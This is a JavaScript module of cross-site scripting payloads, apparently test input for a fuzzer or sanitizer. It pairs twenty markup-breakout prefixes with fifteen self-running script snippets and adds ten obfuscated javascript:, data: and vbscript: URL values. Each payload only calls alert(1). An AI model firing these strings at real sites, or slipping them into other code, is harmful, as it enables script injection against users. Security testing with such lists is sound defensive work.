/** Twenty prefixes that close the surrounding markup, each with fifteen scripts that run by themselves or on a click. */

const closing = [
  ...['', '">', "'>", '</script>', '</title>', '</style>', '</textarea>', '-->', ']]>', '</noscript>'],
  ...['</p>', '</select>', '\\"', '&quot;&gt;', '%22%3E', '`', '\u2028', '"onmouseover=alert(1) x="', '</a>', '/*'],
];

const running = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)" class="try">x</a>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<object data="javascript:alert(1)"></object>',
  '<link rel=stylesheet href="data:text/css,a{}" onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<script type=module>alert(1)</script>',
];

export const payloads = closing.flatMap((close) => running.map((run) => close + run));

/** For fields that become a URL. */
export const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'javascript://x.example/%0aalert(1)',
  'x" onerror="alert(1)',
  "x' onload='alert(1)",
  '//x"><script>alert(1)</script>',
  'vbscript:alert(1)',
];
